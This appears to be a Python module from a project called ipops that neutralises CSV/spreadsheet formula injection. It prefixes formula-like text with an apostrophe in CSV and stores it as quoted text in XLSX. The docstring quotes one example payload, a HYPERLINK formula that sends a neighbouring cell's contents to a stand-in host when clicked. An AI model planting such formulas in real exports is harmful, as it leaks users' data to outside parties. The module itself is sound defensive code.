"""Spreadsheet files that cannot run code: user text is written as text, never a formula.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read as a formula by Excel, LibreOffice and WPS (CSV injection, OWASP "CSV Injection"):
``=HYPERLINK("http://example.invalid/?x="&B3,"Open")`` in a report title would send a
neighbouring cell to a stranger when clicked. Every CSV and XLSX writer of ipops passes its
values through this module:

* CSV: such text gets a leading apostrophe (``'=HYPERLINK(...)``), which spreadsheets
  show and never evaluate (OWASP's recommendation);
* XLSX: the cell is stored as a string with Excel's "quote prefix" flag, so it shows the
  text exactly and stays text even when edited.

A plain number written as text (``-12.50``, ``+86``) is left as it is: it is no formula.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import Any

from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def is_formula_like(value: object) -> bool:
    """True when a spreadsheet would take ``value`` for a formula."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not _PLAIN_NUMBER.match(value)
    )


def csv_cell(value: Any) -> Any:
    """``value`` for a CSV field: formula-like text prefixed with an apostrophe."""
    return "'" + value if is_formula_like(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def csv_record(row: Mapping[str, Any]) -> dict[str, Any]:
    """A ``csv.DictWriter`` row with every value made inert."""
    return {key: csv_cell(value) for key, value in row.items()}


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """``sheet.append(values)``, with formula-like text stored as quoted text."""
    row = list(values)
    sheet.append(row)
    for cell, value in zip(sheet[sheet.max_row], row, strict=False):
        if is_formula_like(value):
            cell.value = value
            cell.data_type = "s"
            cell.quotePrefix = True
